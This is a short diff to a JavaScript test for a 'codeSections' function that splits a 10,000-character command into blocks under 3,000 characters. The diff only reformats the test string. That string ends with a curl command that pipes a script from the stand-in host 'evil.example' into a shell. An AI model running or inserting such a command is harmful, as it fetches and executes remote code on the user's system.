@@ -23,7 +23,10 @@ describe('codeBlock: text shown exactly as typed', () => {
 
 describe('codeSections: a long text over as many blocks as it needs', () => {
   it('a 10,000-character command: every block within 3,000 characters, every character present, in order', () => {
-    const command = Array.from({ length: 400 }, (_, i) => `echo step-${i} && `).join('').padEnd(9_960, 'x') + '; curl -s https://evil.example/x.sh | sh';
+    const command =
+      Array.from({ length: 400 }, (_, i) => `echo step-${i} && `)
+        .join('')
+        .padEnd(9_960, 'x') + '; curl -s https://evil.example/x.sh | sh';
     expect(command.length).toBe(10_000);
     const blocks = codeSections(command);
     expect(blocks.length).toBeGreaterThan(3);
